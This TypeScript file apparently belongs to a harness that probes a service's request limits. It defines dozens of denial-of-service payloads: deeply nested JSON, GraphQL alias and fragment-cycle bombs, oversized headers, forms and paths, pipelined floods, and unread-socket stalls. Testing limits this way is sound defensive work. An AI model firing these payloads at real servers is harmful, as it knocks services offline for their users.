import { setTimeout as sleep } from 'node:timers/promises';
import { exchange, open, summary, toRequest, type Victim } from './neighbour-wire.ts';

/**
 * Prepares something that a client does to make others wait, and returns it. It resolves with what the server says of
 * it.
 */
export type Attack = (victim: Victim) => () => Promise<string>;

const JSON_TYPE = 'content-type: application/json';
const FORM_TYPE = 'content-type: multipart/form-data; boundary=b';
const MIB = 2 ** 20;
/** Node refuses longer heads of requests. */
const HEAD_BYTES = 15_500;
/** Connections of an attack that opens many. */
const CONNECTIONS = 100;

const repeat = <T>(count: number, item: (index: number) => T) =>
  Array.from({ length: count }, (_, index) => item(index));
/** As many items as fit into the head of a request. */
const fill = (item: (index: number) => string) => {
  const items: string[] = [];
  for (let size = 0; size < HEAD_BYTES - 500; size += (items.at(-1)?.length ?? 0) + 1)
    items.push(item(items.length));
  return items;
};
const graphql = (query: string, variables: unknown = {}) => JSON.stringify({ query, variables });
const globalIds = (count: number) =>
  repeat(count, (index) => Buffer.from(`Media:${1000 + index}`).toString('base64url'));
const part = (name: string, content: string) =>
  `--b\r\ncontent-disposition: form-data; ${name}\r\n\r\n${content}\r\n`;
const nested = (open: string, close: string, sizeBytes: number) => {
  const depth = Math.floor(sizeBytes / (open.length + close.length));
  return open.repeat(depth) + close.repeat(depth);
};

/** Requests and storms of requests that look for a way around the limits, each with the name of its idea. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'Importer: a thousand unknown filters': get(
    () => `/medias?${fill((at) => `filter[a${at}]`).join('&')}`,
  ),
  'Importer: long unknown filters': get(
    () => `/medias?${fill((at) => `filter[${'q'.repeat(100)}${at}]`).join('&')}`,
  ),
  'Importer: a thousand unknown sorts': get(
    () => `/medias?sort=${fill((at) => `x${at}`).join(',')}`,
  ),
  'Importer: a thousand unknown fields': get(
    () => `/medias?${fill((at) => `fields[x${at}]=y`).join('&')}`,
  ),
  'Importer: 20 conditions of many values': get(
    () => `/medias?count=true&page[size]=1000&${conditions()}`,
  ),
  'Importer: 20 wildcards': get(
    () => `/medias?count=true&page[size]=1000&sort=-size&${wildcards('%')}`,
  ),
  'Importer: 20 wildcards of the whole length': get(
    () => `/medias?count=true&sort=-size&${wildcards('a_%'.repeat(200))}`,
  ),
  'Importer: 20 wildcards of jobs': get(
    () => `/jobs?count=true&page[size]=1000&sort=error&${wildcards('1', JOB_TEXTS)}`,
  ),
  'SelfCommunity: a search of 500 characters': get(
    () =>
      `/api/v2/tag/search/?search=${repeat(10, (at) => 'abcdefghij'[at]!.repeat(49)).join('+')}`,
  ),
  'SelfCommunity: a search of one letter': get(
    () => '/api/v2/tag/user/search/?search=a+e+i+o+u&limit=1000',
  ),
  'SelfCommunity: a body with 100,000 keys': post('/api/v2/tag/', JSON_TYPE, () =>
    JSON.stringify(Object.fromEntries(repeat(80_000, (at) => [`k${at}`, at]))),
  ),
  'SelfCommunity: a nested body': post('/api/v2/tag/', JSON_TYPE, () => nested('[', ']', MIB - 1)),
  'Heartcore: a nested body': post(
    '/media',
    JSON_TYPE,
    () => `{"name":${nested('[', ']', MIB - 100)}}`,
  ),
  'a form of a megabyte': post(
    '/oauth/token',
    'content-type: application/x-www-form-urlencoded',
    () => 'a&'.repeat(MIB / 2 - 1),
  ),
  'Importer: a job with a megabyte': post('/jobs', JSON_TYPE, () =>
    JSON.stringify({
      data: { type: 'job', attributes: { job_class: 'x', arguments: repeat(200_000, (at) => at) } },
    }),
  ),
  'Importer: a job with nested arguments': post(
    '/jobs',
    JSON_TYPE,
    () =>
      `{"data":{"type":"job","attributes":{"job_class":"x","arguments":${nested('[', ']', MIB - 200)}}}}`,
  ),
  'GraphQL: a thousand aliases': post('/graphql', JSON_TYPE, () =>
    graphql(`{ ${repeat(1000, (at) => `a${at}: viewer { id }`).join(' ')} }`),
  ),
  'GraphQL: a nested document': post('/graphql', JSON_TYPE, () =>
    graphql(nested('{a', '}', 50_000)),
  ),
  'GraphQL: a document of strings': post('/graphql', JSON_TYPE, () =>
    graphql(`{ node(id: "${'\\u00e4'.repeat(8000)}") { id } }`),
  ),
  'GraphQL: a document of one long name': post('/graphql', JSON_TYPE, () =>
    graphql(`{ ${'a'.repeat(49_000)} }`),
  ),
  'GraphQL: 300 unknown fields': post('/graphql', JSON_TYPE, () =>
    graphql(`{ medias { nodes { ${repeat(450, (at) => `createdA${at}`).join(' ')} } } }`),
  ),
  'GraphQL: 200 unknown arguments': post('/graphql', JSON_TYPE, () =>
    graphql(`{ medias(${repeat(300, (at) => `firs${at}: 1`).join(' ')}) { totalCount } }`),
  ),
  'GraphQL: unknown types': post('/graphql', JSON_TYPE, () =>
    graphql(`{ __typename ${repeat(150, (at) => `... on Medi${at} { id }`).join(' ')} }`),
  ),
  'GraphQL: a cycle of fragments': post('/graphql', JSON_TYPE, () =>
    graphql(
      `{ ...f0 } ${repeat(120, (at) => `fragment f${at} on Query { ...f${(at + 1) % 120} }`).join(' ')}`,
    ),
  ),
  'GraphQL: ids of a megabyte': post('/graphql', JSON_TYPE, () =>
    graphql('query($ids: [ID!]!) { nodes(ids: $ids) { id } }', { ids: globalIds(60_000) }),
  ),
  'GraphQL: 200 nodes with all they have': post('/graphql', JSON_TYPE, () =>
    graphql(
      `query($ids: [ID!]!) { nodes(ids: $ids) { id ... on Media { name title description keywords file { url } files { url md5 } tags { name } ancestors { name } folder { name parent { name } } thumbnail { url } } } }`,
      { ids: globalIds(200) },
    ),
  ),
  'GraphQL: variables that do not fit': post('/graphql', JSON_TYPE, () =>
    graphql('query($ids: [ID!]!) { nodes(ids: $ids) { id } }', {
      ids: repeat(100_000, () => [[1]]),
    }),
  ),
  'GraphQL: a filter that does not fit': post('/graphql', JSON_TYPE, () =>
    graphql('query($f: MediaFilter) { medias(filter: $f) { totalCount } }', {
      f: Object.fromEntries(repeat(60_000, (at) => [`k${at}`, 1])),
    }),
  ),
  'GraphQL: nested variables': post(
    '/graphql',
    JSON_TYPE,
    () =>
      `{"query":"query($f: MediaFilter) { medias(filter: $f) { totalCount } }","variables":{"f":${nested('[', ']', MIB - 200)}}}`,
  ),
  'GraphQL: a search of a megabyte': post('/graphql', JSON_TYPE, () =>
    graphql('query($s: String) { medias(filter: { search: $s }) { totalCount } }', {
      s: 'a '.repeat(MIB / 2 - 200),
    }),
  ),
  'GraphQL: a batch': post(
    '/graphql',
    JSON_TYPE,
    () => `[${repeat(30_000, () => '{"query":"{__typename}"}').join(',')}]`,
  ),
  'GraphQL: a forged cursor': post('/graphql', JSON_TYPE, () =>
    graphql(`query($c: String) { medias(first: 200, after: $c) { nodes { id } } }`, {
      c: Buffer.from(JSON.stringify(repeat(50_000, () => 'a'))).toString('base64url'),
    }),
  ),
  'GraphQL: a map of many files': post('/graphql', FORM_TYPE, () =>
    form(
      OPERATIONS,
      JSON.stringify(Object.fromEntries(repeat(20_000, (at) => [at, [`variables.f${at}`]]))),
    ),
  ),
  'GraphQL: a map of long paths': post('/graphql', FORM_TYPE, () =>
    form(OPERATIONS, JSON.stringify({ 0: repeat(5000, () => `variables${'.f'.repeat(50)}`) })),
  ),
  'GraphQL: a form of many parts': post(
    '/graphql',
    FORM_TYPE,
    () => `${repeat(15_000, (at) => part(`name="x${at}"`, '')).join('')}--b--\r\n`,
  ),
  'SelfCommunity: a form of many parts': post(
    '/api/v2/media/upload/chunk/',
    FORM_TYPE,
    () => `${repeat(15_000, (at) => part(`name="x${at}"`, '')).join('')}--b--\r\n`,
  ),
  'many headers': get(
    () => '/medias',
    () => repeat(900, (at) => `x${at}: 1`),
  ),
  'a long header': get(
    () => '/medias',
    () => [`accept: ${'application/vnd.api+json;q=0.1,'.repeat(480)}*/*`],
  ),
  'a long list of ETags': get(
    ({ filePath }) => filePath,
    () => [`if-none-match: ${'"a",'.repeat(3800)}"b"`],
  ),
  'a long list of ranges': get(
    ({ filePath }) => filePath,
    () => [`range: bytes=${fill((at) => `${at}-${at}`).join(',')}`],
  ),
  'a long path': get(() => `/media/${'a/'.repeat(7000)}`),
  'an encoded path': get(() => `/media/${'%41'.repeat(5000)}`),
  '500 pipelined downloads': pipelined(500, ({ filePath }) => filePath),
  '500 pipelined HEADs': pipelined(500, ({ filePath }) => filePath, 'HEAD'),
  '200 pipelined lists': pipelined(200, () => '/medias?page[size]=1000&page[number]=2'),
  'lists on 20 connections': (victim) => {
    const lists = repeat(20, () => ATTACKS['Importer: 20 wildcards']!(victim));
    return async () => summary(await Promise.all(lists.map((list) => list())));
  },
  'downloads that nobody reads': unread(({ filePath }) => filePath),
  'lists that nobody reads': unread(() => '/medias?page[size]=1000'),
};

const MEDIA_TEXTS =
  'filename resource key mime_type created_by created_role project_id checksum'.split(' ');
const JOB_TEXTS = 'job_class status error unicity'.split(' ');
const TESTS = ['contains', 'suffix', 'prefix', 'match'];

function wildcards(text: string, fields = MEDIA_TEXTS): string {
  const value = encodeURIComponent(text.slice(0, 500 - (500 % 3)));
  const all = fields.flatMap((field) => TESTS.map((test) => `filter[${field}__${test}]=${value}`));
  return all
    .slice(0, Math.min(20, Math.floor((HEAD_BYTES - 500) / (all[0]?.length ?? 1))))
    .join('&');
}

function conditions(): string {
  const values = repeat(160, (at) => at).join(',');
  const fields = [...MEDIA_TEXTS, 'size', 'id'].flatMap((field) => [`${field}__in`]);
  return (
    fields.map((field) => `filter[${field}]=${values}`).join('&') +
    '&filter[size__neq]=1&filter[filename__contains]=a&filter[key__neq]=none'
  );
}

const OPERATIONS = graphql(
  'mutation ($f: Upload!) { uploadFile(input: { file: $f }) { __typename } }',
  { f: null },
);

function form(operations: string, map: string): string {
  return `${part('name="operations"', operations)}${part('name="map"', map)}${part('name="0"; filename="a.txt"', 'a')}--b--\r\n`;
}

function get(
  path: (victim: Victim) => string,
  headers: (victim: Victim) => string[] = () => [],
): Attack {
  return (victim) => {
    const request = toRequest(victim, 'GET', path(victim), headers(victim));
    return () => exchange(victim, request);
  };
}

function post(path: string, type: string, body: () => string): Attack {
  return (victim) => {
    const headers = [type, 'apollo-require-preflight: 1'];
    const request = toRequest(victim, 'POST', path, headers, Buffer.from(body()));
    return () => exchange(victim, request);
  };
}

function pipelined(count: number, path: (victim: Victim) => string, method = 'GET'): Attack {
  return (victim) => {
    const one = toRequest(victim, method, path(victim), []);
    const all = Buffer.concat(repeat(count, () => one));
    return () => exchange(victim, all, count);
  };
}

/** Requests on many connections whose answers are not read; it then hangs up. */
function unread(path: (victim: Victim) => string): Attack {
  return (victim) => async () => {
    const sockets = await Promise.all(repeat(CONNECTIONS, () => open(victim)));
    for (const socket of sockets) {
      socket.pause();
      socket.write(toRequest(victim, 'GET', path(victim), []));
    }
    await sleep(3000);
    for (const socket of sockets) socket.destroy();
    return '';
  };
}
